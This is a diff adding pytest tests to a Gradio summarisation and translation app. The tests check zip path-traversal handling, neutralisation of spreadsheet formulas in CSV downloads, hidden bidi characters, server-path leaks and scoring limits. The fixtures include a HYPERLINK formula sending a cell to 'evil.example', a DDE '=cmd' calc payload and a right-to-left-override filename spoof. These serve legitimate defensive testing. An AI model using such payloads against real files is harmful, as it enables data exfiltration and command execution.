@@ -7,8 +7,13 @@ that requires a key. Uploads and zips go through Gradio's own routes, as the pag
 
 from __future__ import annotations
 
+import csv
+import io
 import json
+import random
 import re
+import time
+import zipfile
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
@@ -16,6 +21,7 @@ from typing import Any
 import httpx
 import pytest
 
+from inference.settings import MAX_EVAL_FILE_ITEMS, MAX_EVAL_FILES
 from tests.appserver import free_port, running_app
 from tests.faults import faults
 from tests.hostile import (
@@ -314,18 +320,190 @@ def test_every_zip_member_is_summarised_or_reported(client: httpx.Client) -> Non
     article = "The first sentence of the article. A second sentence follows it. The third one ends it.\n"
     members = {name: article.encode() for name in ("a/b.txt", "a__b.txt", "c.txt", "../c.txt", "C.TXT")}
     members |= {"locked.txt": article.encode(), "odd.txt": article.encode(), "x" * 250 + ".txt": b"long"}
+    members |= {".txt": article.encode(), "d/.TXT": article.encode(), "./.txt": article.encode()}
     archive = hostile_zip(members, encrypted="locked.txt", unknown_method="odd.txt")
     files = upload(client, {"articles.zip": archive})
     status, results = gradio_call(client, "batch", [files, "extractive", 1, "same", "summarize"])
-    assert f"4 of {len(members)} articles summarised" in status and "4 with errors" in status
+    assert f"5 of {len(members)} articles summarised" in status and "6 with errors" in status
     jsonl, _, errors = (client.get(f"/gradio_api/file={r['path']}").text for r in results)
     ids = [json.loads(line)["id"] for line in jsonl.splitlines()]
-    assert len(set(ids)) == 4 and len(ids) == 4
+    assert len(set(ids)) == 5 and len(ids) == 5 and "d__.TXT" in ids
     reasons = {json.loads(line)["where"]: json.loads(line)["reason"] for line in errors.splitlines()}
-    assert sorted(reasons) == sorted(
-        f"articles.zip: {n}" for n in ("../c.txt", "locked.txt", "odd.txt", "x" * 250 + ".txt")
-    )
+    refused = ("../c.txt", "locked.txt", "odd.txt", "x" * 250 + ".txt", ".txt", "./.txt")
+    assert sorted(reasons) == sorted(f"articles.zip: {n}" for n in refused)
     assert all(reasons.values())
+
+
+def test_an_article_no_model_can_translate_is_an_error_and_the_rest_go_on(
+    client: httpx.Client, memorised_pairs: list[tuple[str, str]]
+) -> None:
+    rows = [{"id": f"ar{i}", "text": arabic} for i, (arabic, _) in enumerate(memorised_pairs[:3])]
+    rows.insert(1, {"id": "en", "text": "This one is in English. The server has no English to Arabic model."})
+    body = "".join(json.dumps(row, ensure_ascii=False) + "\n" for row in rows).encode()
+    files = upload(client, {"mixed.jsonl": body})
+    status, results = gradio_call(client, "batch", [files, "extractive", 3, "same", "translate"])
+    assert "3 of 4 articles translated" in status and "1 with errors" in status, status
+    jsonl, _, errors = (client.get(f"/gradio_api/file={r['path']}").text for r in results)
+    assert [json.loads(line)["translation"] for line in jsonl.splitlines()] == [
+        english for _, english in memorised_pairs[:3]
+    ]
+    [error] = [json.loads(line) for line in errors.splitlines()]
+    assert error["id"] == "en" and "opus-mt-en-ar" in error["reason"] and "not available" in error["reason"]
+
+
+SPREADSHEET_HOSTILE = [  # (id, text): cells a spreadsheet would run as formulas, names that hide their end
+    ("=1+1", '=HYPERLINK("http://evil.example/?"&A1,"Open") is how the article starts. It goes on here.'),
+    ("+cmd", "+SUM(1,2) starts this article about sums. The second sentence is calm."),
+    ("-2+3", "-2+3 is the first thing this article says. Then it says more."),
+    ("@SUM(A1)", "@SUM(A1:A9) opens the text. Nothing else happens in it."),
+    ("tab", "\t=cmd|' /C calc'!A0 hides behind a tab. The article ends here."),
+    ("cr", "\r=1+2 hides behind a carriage return. The article ends here."),
+    ("report\u202etxt.exe", "An article whose id hides its real end. It has two sentences."),
+    ("\u2066x\u2069\u202a\u202b\u202c\u202d", "Isolates and embeddings in the id. Two sentences here."),
+]
+
+
+def test_batch_downloads_run_no_formula_and_show_hidden_bidi_controls(client: httpx.Client) -> None:
+    body = "".join(json.dumps({"id": i, "text": t}) + "\n" for i, t in SPREADSHEET_HOSTILE)
+    files = upload(client, {"hostile.jsonl": body.encode()})
+    status, results = gradio_call(client, "batch", [files, "extractive", 1, "same", "summarize"])
+    assert f"{len(SPREADSHEET_HOSTILE)} of {len(SPREADSHEET_HOSTILE)} articles summarised" in status
+    jsonl, table, errors = (client.get(f"/gradio_api/file={r['path']}").content for r in results)
+    cells = [cell for row in csv.reader(io.StringIO(table.decode("utf-8-sig"))) for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    ids = [row[0] for row in csv.reader(io.StringIO(table.decode("utf-8-sig")))][1:]
+    assert ids[:4] == ["'=1+1", "'+cmd", "'-2+3", "'@SUM(A1)"] and "report<U+202E>txt.exe" in ids
+    assert "<U+2066>x<U+2069><U+202A><U+202B><U+202C><U+202D>" in ids
+    for download in (jsonl, table, errors):
+        assert not re.search("[\u202a-\u202e\u2066-\u2069]", download.decode("utf-8-sig"))
+
+
+def _downloads(client: httpx.Client, outputs: list[Any]) -> list[bytes]:
+    """Every file among a page event's outputs (a ``report.zip``: each of its members)."""
+    found: list[bytes] = []
+    for output in outputs:
+        for item in output if isinstance(output, list) else [output]:
+            if isinstance(item, dict) and "path" in item:
+                data = client.get(f"/gradio_api/file={item['path']}").content
+                if item["path"].endswith(".zip"):
+                    with zipfile.ZipFile(io.BytesIO(data)) as zipped:
+                        found += [zipped.read(name) for name in zipped.namelist()]
+                else:
+                    found.append(data)
+    return found
+
+
+def _translate(client: httpx.Client, arabic: list[str]) -> list[Any]:
+    return gradio_call(client, "translate", [arabic[0], "ar-en", ""])
+
+
+def _batch(job: str, to: str) -> Any:
+    def call(client: httpx.Client, arabic: list[str]) -> list[Any]:
+        body = "".join(
+            json.dumps({"id": f"a{i}", "text": t}, ensure_ascii=False) + "\n" for i, t in enumerate(arabic)
+        )
+        files = upload(client, {"articles.jsonl": body.encode()})
+        return gradio_call(client, "batch", [files, "extractive", 1, to, job])
+
+    return call
+
+
+def _testset(client: httpx.Client, arabic: list[str]) -> list[Any]:
+    return gradio_call(client, "evaluate_testset", ["tatoeba", "ar-en", "", 5, "extractive"])
+
+
+def _same_stem(client: httpx.Client, arabic: list[str]) -> list[Any]:
+    hyps = upload(client, {"hyp.txt": b"one line\ntwo lines\n"})
+    hyps += upload(client, {"hyp.jsonl": b'"one line"\n"two line"\n'})
+    refs = upload(client, {"ref.txt": b"one line\ntwo lines\n"})
+    outputs = gradio_call(client, "evaluate_files", [hyps, refs, "mt"])
+    assert "hyp.txt" in outputs[1] and "hyp.jsonl" in outputs[1], outputs[0]
+    return outputs
+
+
+VISITORS_GET = {  # page events whose outputs once named the --mt-model folder or an upload's folder
+    "translate .json": _translate,
+    "translation batch": _batch("translate", "same"),
+    "summary batch into English": _batch("summarize", "en"),
+    "test set report": _testset,
+    "two systems with one stem": _same_stem,
+}
+
+
+@pytest.mark.parametrize("event", VISITORS_GET.values(), ids=VISITORS_GET.keys())
+def test_no_output_a_visitor_gets_names_a_server_path(
+    client: httpx.Client,
+    open_server: tuple[str, Path],
+    memorised_ar_en: Path,
+    memorised_pairs: list[tuple[str, str]],
+    event: Any,
+) -> None:
+    outputs = event(client, [arabic for arabic, _ in memorised_pairs[:3]])
+    texts = [str(output) for output in outputs if not isinstance(output, dict | list)]
+    texts += [data.decode("utf-8", "replace") for data in _downloads(client, outputs)]
+    assert len(texts) > len(outputs) - 2  # the event wrote its downloads
+    for text in texts:
+        for path in (str(open_server[1]), str(memorised_ar_en.parent), "/gradio/"):
+            assert path not in text, text[:2000]
+
+
+def _lines(count: int, seed: int = 0, words: int = 3) -> bytes:
+    """``count`` lines of ``words`` words each, different for each ``seed``."""
+    pick = random.Random(seed)
+    vocabulary = (
+        "the",
+        "minister",
+        "said",
+        "on",
+        "monday",
+        "that",
+        "talks",
+        "budget",
+        "would",
+        "go",
+        "friday",
+    )
+    return "".join(" ".join(pick.choices(vocabulary, k=words)) + "\n" for _ in range(count)).encode()
+
+
+SCORING_LIMITS = [  # (what, system files, reference files, the refusal's words)
+    ("lines", [MAX_EVAL_FILE_ITEMS + 1], [MAX_EVAL_FILE_ITEMS + 1], "2,001 lines; the limit is 2,000"),
+    ("systems", [2] * (MAX_EVAL_FILES + 1), [2], f"{MAX_EVAL_FILES + 1} system files; the limit is"),
+    ("references", [2], [2] * (MAX_EVAL_FILES + 1), f"{MAX_EVAL_FILES + 1} reference files; the limit is"),
+]
+
+
+@pytest.mark.parametrize(
+    ("what", "systems", "references", "words"), SCORING_LIMITS, ids=[w[0] for w in SCORING_LIMITS]
+)
+def test_scoring_files_over_a_limit_is_refused(
+    client: httpx.Client, what: str, systems: list[int], references: list[int], words: str
+) -> None:
+    hyps = [upload(client, {f"{what}-sys{i}.txt": _lines(n, i)})[0] for i, n in enumerate(systems)]
+    refs = [upload(client, {f"{what}-ref{i}.txt": _lines(n, 100 + i)})[0] for i, n in enumerate(references)]
+    error, scores, plots, reports = gradio_call(client, "evaluate_files", [hyps, refs, "mt"])
+    assert words in error and (scores, plots, reports) == ("", [], []), error or scores[:300]
+
+
+def test_one_visitors_big_scoring_holds_up_no_other_visitor(memorised_ar_en: Path, tmp_path: Path) -> None:
+    with (
+        running_app(["--mt-model", str(memorised_ar_en)], tmp_path) as url,
+        _client_from(url, "127.0.0.1") as big,
+        _client_from(url, "127.0.0.5") as small,
+    ):
+        hyps = upload(big, {"big.txt": _lines(MAX_EVAL_FILE_ITEMS, 1, words=12)})
+        refs = upload(big, {"ref.txt": _lines(MAX_EVAL_FILE_ITEMS, 2, words=12)})
+        started = big.post("/gradio_api/call/evaluate_files", json={"data": [hyps, refs, "mt"]})
+        assert started.status_code == 200
+        time.sleep(1)  # the big scoring has begun
+        mine = upload(small, {"mine.txt": b"one line\ntwo lines\n"})
+        again = upload(big, {"again.txt": b"one line\ntwo lines\n"})
+        refused = gradio_call(big, "evaluate_files", [again, again, "mt"])
+        assert "still running" in refused[0], refused[0] or refused[1][:300]
+        error, scores, _, _ = gradio_call(small, "evaluate_files", [mine, mine, "mt"])
+        assert not error and "2 items, 1 reference" in scores
+        refused = gradio_call(big, "evaluate_files", [again, again, "mt"])  # the big one still runs
+        assert "still running" in refused[0], refused[0] or refused[1][:300]
 
 
 # --- keys and limits on every way in ----------------------------------------------------------------
